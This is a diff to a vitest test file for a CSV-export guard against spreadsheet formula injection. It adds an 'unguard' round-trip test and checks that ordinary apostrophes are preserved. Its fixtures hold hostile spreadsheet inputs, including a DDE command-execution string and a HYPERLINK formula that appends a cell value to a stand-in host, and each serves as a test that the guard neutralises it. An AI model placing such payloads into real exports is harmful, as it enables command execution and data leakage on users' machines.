@@ -1,6 +1,6 @@
 import Papa from 'papaparse';
 import { expect, test } from 'vitest';
-import { csvLine } from './csv.ts';
+import { csvLine, unguard } from './csv.ts';
 
 test.each([
   ['=1+1', "'=1+1"],
@@ -14,6 +14,7 @@ test.each([
   ['\xa0=1', "'\xa0=1"],
   ['＝1', "'＝1"],
   ['"=1"', `'"=1"`],
+  ["'=1", "''=1"],
   ['=HYPERLINK("http://x.example?"&A1)', `'=HYPERLINK("http://x.example?"&A1)`],
   ["x;=cmd|'/C calc'!A0;y", "x;'=cmd|'/C calc'!A0;y"],
   ['x; "=1"', `x;' "=1"`],
@@ -56,3 +57,21 @@ test.each([
   const { data } = Papa.parse<string[]>(csvLine(['x', text]));
   expect(data[0]).toEqual(['x', text]);
 });
+
+test('a guarded text becomes the original text again, whatever it contains', () => {
+  const signs = ['=', "'", ';', '"', ' ', '\n', 'x', '-'];
+  let texts = [''];
+  for (let length = 1; length <= 4; length += 1) {
+    texts = texts.flatMap((text) => signs.map((sign) => text + sign));
+    // No imported text begins with a line break.
+    for (const text of texts.filter((one) => !one.startsWith('\n'))) {
+      const [[cell = ''] = []] = Papa.parse<string[]>(csvLine([text]).slice(0, -2)).data;
+      if (unguard(cell) !== text) expect.fail(JSON.stringify({ text, cell }));
+    }
+  }
+});
+
+test.each(["rock, '-n'-roll", "uses '+', '-' and '='", "don't", "O'Hara; 'x'"])(
+  'apostrophes that guard nothing are kept: %s',
+  (text) => expect(unguard(text)).toBe(text),
+);
